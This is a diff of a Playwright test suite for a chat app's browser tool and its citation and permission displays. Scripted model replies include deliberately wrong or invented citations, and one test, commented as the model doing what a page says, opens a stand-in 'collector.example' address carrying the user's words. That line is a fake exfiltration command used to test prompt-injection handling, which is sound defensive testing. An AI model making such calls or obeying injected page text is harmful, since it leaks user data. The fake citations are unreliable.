@@ -10,7 +10,7 @@ test.skip(why !== undefined, `no MediaWiki: ${why}`);
 
 const [en, zh] = [subjects('en'), subjects('zh')];
 const MILL = en[2];
-const [, founded, rooms] = [0, MILL.facts[0], MILL.facts[2]];
+const [founded, , rooms] = MILL.facts;
 let wiki: Wiki;
 test.beforeAll(async () => {
   test.setTimeout(180_000);
@@ -31,14 +31,14 @@ test('settings, permission, search, pages; a mark shows the sentence, one that t
   await page.getByLabel('Address', { exact: true }).fill(`${wiki.url}/index.php`);
   await page.keyboard.press('Enter');
   await page.keyboard.press('Escape');
-  await page.getByRole('button', { name: /tools? on/ }).click();
+  await page.getByRole('button', { name: /^Tools: / }).click();
   await page.getByRole('switch', { name: /^Browser/ }).check();
   await page.keyboard.press('Escape');
 
   const wrong = rooms.wrong.replace(/\.$/, '');
   const said = founded.sentence.replace(/\.$/, '');
   await chat.send(
-    `say\n☎simple_browser:search("${MILL.title}")☎☎simple_browser:mclick([0, 1])☎${said}【7†source】. ${wrong}【7†source】. It is nice【99†source】.`,
+    `say\n☎simple_browser:search("${MILL.title}")☎☎simple_browser:mclick([0])☎${said}【7†source】. ${wrong}【7†source】. It is nice【99†source】.`,
   );
   const prompt = page.getByRole('group', { name: 'Run this?' });
   await expect(prompt).toContainText(new URL(wiki.url).host);
@@ -49,7 +49,7 @@ test('settings, permission, search, pages; a mark shows the sentence, one that t
   const answer = chat.answers.last();
   const cards = answer.getByRole('group', { name: 'Browser', exact: true });
   await expect(cards).toHaveCount(2);
-  await expect(cards.nth(1).getByRole('button').first()).toContainText('2 pages read');
+  await expect(cards.nth(1).getByRole('button').first()).toContainText('1 page read');
   const good = answer.getByRole('button', { name: `Source 7: ${MILL.title}`, exact: true });
   const doubtful = answer.getByRole('button', {
     name: `Source 7: ${MILL.title}. The page may not say this.`,
@@ -99,7 +99,7 @@ test('search first: a query in the question’s words, pages, and an answer; a h
 
   // The model does as the page says: it is asked about, with the whole address and whoever would hear of it.
   await mode.click();
-  await page.getByRole('button', { name: /tools? on/ }).click();
+  await page.getByRole('button', { name: /^Tools: / }).click();
   await page.getByRole('switch', { name: /^Browser/ }).check();
   await page.keyboard.press('Escape');
   await chat.send('say\n☎simple_browser:open_url("https://collector.example/log?q=WORDS")☎Done.');
